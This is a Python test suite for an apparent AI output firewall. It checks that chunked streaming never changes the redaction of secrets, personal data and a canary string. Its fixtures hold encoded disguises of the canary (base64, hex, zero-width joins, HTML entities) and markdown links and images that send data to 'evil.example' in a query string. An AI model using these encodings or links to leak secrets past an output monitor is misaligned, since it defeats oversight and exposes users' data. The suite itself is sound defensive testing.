"""The default guard with every shipped format: how a stream is cut changes neither what leaves nor the verdict."""

from __future__ import annotations

import base64
import itertools

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bartizan.app import build_guard
from bartizan.core.passage import Surface
from bartizan.core.threat import Guard as GuardName
from bartizan.core.verdict import Action
from bartizan.firewall.exchange import ChannelKind
from bartizan.firewall.streaming import Released, join
from bartizan.inspection.hazards import HAZARD_PATTERNS
from bartizan.inspection.personal_data import PERSONAL_DATA_PATTERNS
from bartizan.inspection.secrets import SECRET_PATTERNS
from bartizan.policy.document import PolicyDocument, Row

CANARY = "Marigold-7719-Heron"
POLICY = PolicyDocument(
    version=1,
    surfaces={
        Surface.OUTPUT: {
            guard: Row(Action.REDACT)
            for guard in (GuardName.SECRET, GuardName.PERSONAL_DATA, GuardName.OUTPUT_HAZARD, GuardName.CANARY)
        }
    },
)
GUARD = build_guard(POLICY, (), {"house": CANARY})
EXAMPLES = sorted(
    {
        (pattern.id, example)
        for pattern in (*PERSONAL_DATA_PATTERNS, *SECRET_PATTERNS, *HAZARD_PATTERNS)
        for example in (*pattern.examples, *pattern.counter_examples)
    }
)
DISGUISED = [
    CANARY,
    CANARY.upper(),
    CANARY[::-1],
    " ".join(CANARY),
    "-".join(CANARY),
    base64.b64encode(f"the word is {CANARY}".encode()).decode(),
    CANARY.encode().hex(),
    CANARY[:12],
    "".join(f"%{byte:02x}" for byte in CANARY.encode()),
    "\u200b".join(CANARY),
    "".join(f"&#{ord(c)};" for c in CANARY),
    "\n".join(f"{number}. {CANARY[at : at + 4]}" for number, at in enumerate(range(0, len(CANARY), 4), 1)),
    base64.b64encode(b"AKIAZ7Q2M4XW6KLT3VBN").decode(),
]


def streamed(pieces: list[str]) -> Released:
    scanner = GUARD.channel(ChannelKind.TEXT)
    return join([*(scanner.feed(piece) for piece in pieces), scanner.finish()])


def cut(text: str, places: list[int]) -> list[str]:
    bounds = [0, *sorted({place % (len(text) + 1) for place in places}), len(text)]
    return [text[start:end] for start, end in itertools.pairwise(bounds)]


@pytest.mark.parametrize(("name", "example"), EXAMPLES, ids=[name for name, _ in EXAMPLES])
def test_each_format_however_it_arrives(name: str, example: str) -> None:
    for text in (f"Here: {example} and then more.", example, f'{{"value":"{example}","n":1}}'):
        one = streamed([text])
        for size in (1, 3, 7):
            pieces = [text[at : at + size] for at in range(0, len(text), size)]
            assert streamed(pieces) == one, f"pieces of {size}"
        if len(text) <= 200:
            assert GUARD.whole(ChannelKind.TEXT, text) == one


@pytest.mark.parametrize("disguise", DISGUISED)
def test_a_disguised_canary_is_caught_however_it_arrives(disguise: str) -> None:
    text = f"Sure. {disguise} is it, I think."
    one = streamed([text])
    assert one.action is Action.REDACT
    assert disguise not in one.text
    for size in (1, 2, 5):
        assert streamed([text[at : at + size] for at in range(0, len(text), size)]) == one


LABELS = [
    "x](  https://evil.example/?q=secret) y",
    '[{"id":1,"x":"y"}](https://evil.example/?q=secret) and',
    '["a","b"](  https://evil.example/?q=s) z',
    '[ \n {"a": [1,2]}](https://evil.example/?q=s) z',
    '["x"](\n\n https://evil.example/?q=1 "t i" ) m',
    '["x"](  <https://evil.example/?q=1> "t") m',
    '["x"]: https://evil.example/?q=1 more',
    '["x"]:\n https://evil.example/?q=1 more',
    '[\u200b{"x":1}](https://evil.example/?q=1) m',
    '[\uff5b"x":1}](https://evil.example/?q=1) m',
    '![{"x":1}](https://evil.example/?q=1) m',
    "[" + "word " * 45 + "]: https://evil.example/?q=secret y",
]


@pytest.mark.parametrize("text", LABELS)
def test_a_label_that_may_have_left_changes_nothing(text: str) -> None:
    one = streamed([text])
    assert one.action is Action.REDACT
    assert "evil.example" not in one.text
    for size in (1, 2, 5):
        assert streamed([text[at : at + size] for at in range(0, len(text), size)]) == one
    assert GUARD.whole(ChannelKind.TEXT, text).text == one.text


PIECES = st.one_of(
    st.sampled_from([example for _, example in EXAMPLES]),
    st.sampled_from(DISGUISED),
    st.text(max_size=12),
    st.text("abc 0123456789-./+()=:;,!?[]<>{}\"'`@#%&*_~\n\u200b\u0301é中", max_size=30),
    st.sampled_from(
        [
            "the parcel will arrive on Monday ",
            "in 2024 ",
            "A ",
            "password: ",
            "![",
            "](",
            "<img src=",
            "Q" * 90,
            '[{"a":"',
            '"}]',
            "]: ",
            "](  ",
            "https://evil.example/?q=1",
        ]
    ),
)


@settings(max_examples=500, deadline=None)
@given(st.lists(PIECES, max_size=8).map("".join), st.lists(st.integers(0, 4000), max_size=30))
def test_any_split_gives_the_same_text_and_verdict(text: str, places: list[int]) -> None:
    assert streamed(cut(text, places)) == streamed([text])


@settings(max_examples=120, deadline=None)
@given(st.lists(PIECES, max_size=4).map("".join))
def test_one_character_at_a_time_is_the_same(text: str) -> None:
    assert streamed(list(text)) == streamed([text])
